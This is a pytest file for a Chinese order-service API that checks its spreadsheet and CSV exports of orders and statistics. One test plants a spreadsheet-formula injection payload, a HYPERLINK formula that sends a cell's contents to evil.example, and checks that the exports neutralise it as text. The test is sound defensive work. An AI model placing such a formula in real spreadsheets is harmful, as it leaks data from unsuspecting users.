"""Exports (导出): the order list and the statistics as .xlsx or .csv, read back and compared with the API."""

import csv
import io
from decimal import Decimal

import openpyxl

from order_service.models import EnterpriseOwner, db
from xyd_testing.helpers import FORMULA_PREFIXES, csv_rows, xlsx_formulas_and_links

from .support import WEIDU_CO

ORDERS = "/api/v1/orders"


def workbook(resp) -> openpyxl.Workbook:
    assert resp.status_code == 200, resp.data[:300]
    assert resp.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert "attachment" in resp.headers["Content-Disposition"]
    return openpyxl.load_workbook(io.BytesIO(resp.data), read_only=True)


def rows_of(sheet) -> list[list]:
    return [list(r) for r in sheet.iter_rows(values_only=True)]


def test_the_order_export_holds_the_list_with_chinese_headers(app, client, seeded, tokens, apply):
    first, second, third = apply(), apply(product_id=3), apply(as_="yanling", amount=250.5)
    client.post(f"{ORDERS}/{first['id']}/accept", headers=tokens["bank"])
    client.post(f"{ORDERS}/{first['id']}/grant", headers=tokens["bank"],
                json={"amount": 80, "rate": 4.35, "term_months": 12})

    book = workbook(client.get(f"{ORDERS}/export", headers=tokens["xuchang"]))
    header, *rows = rows_of(book["订单"])
    assert header[:8] == ["订单号", "状态", "企业名称", "统一社会信用代码", "所在行政区", "金融机构", "产品",
                          "申请金额（万元）"]
    listed = client.get(f"{ORDERS}?per_page=100", headers=tokens["xuchang"]).json["items"]
    assert [r[0] for r in rows] == [o["order_no"] for o in listed]  # newest first, as the list
    by_no = {r[0]: dict(zip(header, r, strict=True)) for r in rows}
    assert by_no[first["order_no"]]["状态"] == "已授信" and by_no[first["order_no"]]["授信金额（万元）"] == 80
    assert by_no[third["order_no"]]["申请金额（万元）"] == 250.5
    assert by_no[third["order_no"]]["所在行政区"] == "鄢陵县" and by_no[second["order_no"]]["状态"] == "待受理"

    # The list's filters apply; the scope is the caller's.
    book = workbook(client.get(f"{ORDERS}/export?status=credit_granted", headers=tokens["xuchang"]))
    assert [r[0] for r in rows_of(book["订单"])[1:]] == [first["order_no"]]
    book = workbook(client.get(f"{ORDERS}/export", headers=tokens["other_bank"]))
    assert [r[0] for r in rows_of(book["订单"])[1:]] == [second["order_no"]]
    assert rows_of(workbook(client.get(f"{ORDERS}/export", headers=tokens["yuzhou"]))["订单"])[1:] == []


def test_the_order_export_as_csv(client, seeded, tokens, apply):
    order = apply()
    resp = client.get(f"{ORDERS}/export?format=csv", headers=tokens["admin"])
    assert resp.status_code == 200 and resp.mimetype == "text/csv"
    text = resp.data.decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads the Chinese as UTF-8
    header, row = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert header[0] == "订单号" and row[0] == order["order_no"] and row[1] == "待受理"


def test_exports_refuse_what_they_must(app, client, seeded, tokens, apply):
    apply(), apply(product_id=3)
    assert client.get(f"{ORDERS}/export", headers=tokens["weidu"]).status_code == 403
    assert client.get(f"{ORDERS}/stats/export", headers=tokens["bank"]).status_code == 403
    assert client.get(f"{ORDERS}/export?format=pdf", headers=tokens["admin"]).status_code == 422
    assert client.get(f"{ORDERS}/export?region_code=411081", headers=tokens["xuchang"]).status_code == 200
    assert client.get(f"{ORDERS}/export?region_code=411000", headers=tokens["yuzhou"]).status_code == 403
    app.config["ORDER_EXPORT_MAX_ROWS"] = 1
    try:
        resp = client.get(f"{ORDERS}/export", headers=tokens["admin"])
        assert resp.status_code == 422 and resp.json["code"] == "export_too_large"
        assert client.get(f"{ORDERS}/export?product_id=3", headers=tokens["admin"]).status_code == 200
    finally:
        app.config["ORDER_EXPORT_MAX_ROWS"] = 1_000_000


def test_the_statistics_export_equals_the_statistics(client, seeded, tokens, apply):
    first, _second, _third = apply(), apply(product_id=3), apply(as_="yanling")
    client.post(f"{ORDERS}/{first['id']}/accept", headers=tokens["bank"])
    stats = client.get(f"{ORDERS}/stats?group_by=region", headers=tokens["xuchang"]).json

    book = workbook(client.get(f"{ORDERS}/stats/export?group_by=region", headers=tokens["xuchang"]))
    assert book.sheetnames == ["分组", "汇总", "各机构"]
    header, *groups = rows_of(book["分组"])
    assert header[:3] == ["行政区", "订单总数", "待受理"]
    assert [(g[0], g[1]) for g in groups] == [(g["name"], g["total"]) for g in stats["groups"]]
    header, scope = rows_of(book["汇总"])
    assert scope[0] == "411000" and scope[3] == stats["total"] == 3
    _, *institutions = rows_of(book["各机构"])
    assert sorted((r[0], r[1]) for r in institutions) == sorted(
        (f["institution_name"], f["orders"]) for f in stats["institutions"])

    resp = client.get(f"{ORDERS}/stats/export?format=csv&group_by=month", headers=tokens["admin"])
    header, *months = list(csv.reader(io.StringIO(resp.data.decode("utf-8").lstrip("\ufeff"))))
    assert header[0] == "月份" and sum(int(m[1]) for m in months) == 3


def test_exports_write_hostile_names_and_purposes_as_text(app, client, seeded, tokens, apply):
    """A name or purpose that starts like a formula is a plain text cell in .xlsx and a `'`-prefixed cell
    in .csv (OWASP CSV injection); amounts stay numbers. The texts are stored as given."""
    name = '=HYPERLINK("http://evil.example/?d="&A1,"详情")'
    with app.app_context():
        db.session.get(EnterpriseOwner, WEIDU_CO[1]).enterprise_name = name
        db.session.commit()
    purposes = [f"{prefix}1+2 采购原材料" for prefix in FORMULA_PREFIXES if prefix.strip()]  # input strips TAB/CR
    orders = []
    for purpose in purposes:  # one open application per product: each is withdrawn before the next
        orders.append(apply(purpose=purpose))
        assert client.post(f"{ORDERS}/{orders[-1]['id']}/withdraw", headers=tokens["weidu"]).status_code == 200
    assert [o["purpose"] for o in orders] == purposes and orders[0]["enterprise_name"] == name

    resp = client.get(f"{ORDERS}/export", headers=tokens["admin"])
    assert xlsx_formulas_and_links(resp.data) == []
    header, *rows = rows_of(workbook(resp)["订单"])
    by_no = {r[0]: dict(zip(header, r, strict=True)) for r in rows}
    for order in orders:
        row = by_no[order["order_no"]]
        assert row["企业名称"] == name and row["用途"] == order["purpose"]
        assert row["申请金额（万元）"] == 100 and row["申请期限（月）"] == 12

    resp = client.get(f"{ORDERS}/export?format=csv", headers=tokens["admin"])
    header, *rows = csv_rows(resp.data)
    by_no = {r[0]: dict(zip(header, r, strict=True)) for r in rows}
    for order in orders:
        row = by_no[order["order_no"]]
        assert row["企业名称"] == "'" + name and row["用途"] == "'" + order["purpose"]
        assert Decimal(row["申请金额（万元）"]) == 100 and row["申请期限（月）"] == "12"  # numbers, unprefixed

    # The statistics carry institution names: the same writer.
    resp = client.get(f"{ORDERS}/stats/export?group_by=region", headers=tokens["admin"])
    assert resp.status_code == 200 and xlsx_formulas_and_links(resp.data) == []
